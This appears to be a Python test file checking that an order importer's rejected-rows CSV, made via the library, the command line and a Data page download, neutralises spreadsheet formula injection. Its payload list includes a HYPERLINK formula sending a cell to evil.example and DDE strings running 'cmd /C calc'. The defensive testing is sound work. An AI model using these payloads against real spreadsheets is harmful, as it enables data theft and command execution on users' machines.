"""The rejected-rows file (``FILE.rejects.csv`` of ``--skip-bad``, and the Data page's "Download
the rejected rows") goes through the same formula-safe writer as every export (data.export):
a cell a spreadsheet would run as a formula is written with a leading ``'``."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from data.db import connect
from data.importer import import_file
from tests.app_support import app_test, capture_downloads, use_app_env

REPO = Path(__file__).resolve().parents[1]
HEADER = ["order_id", "placed_at", "order_amount", "currency", "category", "country"]
# (id, text put in the category of a row whose amount is bad)
PAYLOADS = [
    pytest.param('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', id="equals-hyperlink"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at-sum"),
    pytest.param("+cmd|' /C calc'!A0", id="plus-cmd"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus-formula"),
    pytest.param("\t=1+1", id="leading-tab"),
    pytest.param("\r=1+1", id="leading-cr"),  # written as Parquet: the CSV reader refuses a quoted CR (a
]                                            # line break inside a value), naming the line
GOOD_ROW = ["OK-1", "2026-11-02T10:00:00+08:00", "10.00", "USD", "toys", "US"]


def _orders_csv(path: Path, category: str) -> Path:
    """Two orders, the second with a bad amount and ``category``; Parquet when the text holds a CR."""
    rows = [GOOD_ROW, ["BAD-1", "2026-11-02T10:00:00+08:00", "=1+1", "USD", category, "=2+2"]]
    if "\r" in category:
        path = path.with_suffix(".parquet")
        pd.DataFrame(rows, columns=HEADER).to_parquet(path)
        return path
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([HEADER, *rows])
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def _cells(data: bytes) -> dict[str, str]:
    """The one rejected row of a rejects file, ``{column: cell as written}``."""
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1, rows
    return rows[0]


def _assert_safe(cells: dict[str, str], category: str) -> None:
    assert cells["line"] == "3"                            # header = line 1 (Parquet rows count alike)
    assert cells["category"] == "'" + category           # the payload, as text
    assert cells["order_amount"] == "'=1+1" and cells["country"] == "'=2+2"
    assert cells["order_id"] == "BAD-1"                   # harmless cells unchanged
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells.values())


@pytest.mark.parametrize("category", PAYLOADS)
def test_import_skip_bad_writes_a_formula_safe_rejects_file(tmp_path, category):
    con = connect(tmp_path / "db.duckdb", create_sample=False)
    try:
        result = import_file(con, "orders", _orders_csv(tmp_path / "orders.csv", category), skip_bad=True)
    finally:
        con.close()
    assert (result.inserted, result.rejected) == (1, 1)
    _assert_safe(_cells(result.rejects_path.read_bytes()), category)


def test_the_command_line_writes_a_formula_safe_rejects_file(tmp_path):
    category = PAYLOADS[0].values[0]
    source = _orders_csv(tmp_path / "orders.csv", category)
    done = subprocess.run([sys.executable, "-m", "data", "import", "orders", str(source), "--skip-bad",
                           "--db", str(tmp_path / "cli.duckdb")], cwd=REPO, capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 0, done.stderr
    _assert_safe(_cells((tmp_path / "orders.csv.rejects.csv").read_bytes()), category)


def test_the_data_page_download_is_formula_safe(sample_db, tmp_path, monkeypatch):
    db = tmp_path / "db.duckdb"
    shutil.copy(sample_db, db)
    use_app_env(db, tmp_path, monkeypatch)
    downloads = capture_downloads(monkeypatch)
    category = PAYLOADS[2].values[0]
    at = app_test().run()
    at.switch_page("pages/data_page.py").run()
    upload = _orders_csv(tmp_path / "upload.csv", category).read_bytes()
    at.file_uploader(key="dp_file").set_value(("export.csv", upload, "text/csv")).run()
    at.checkbox(key="dp_skip_bad").check().run()
    at.button(key="dp_import").click().run()
    assert not at.exception, [e.value for e in at.exception]
    assert "export.csv.rejects.csv" in downloads, list(downloads)
    _assert_safe(_cells(downloads["export.csv.rejects.csv"]), category)
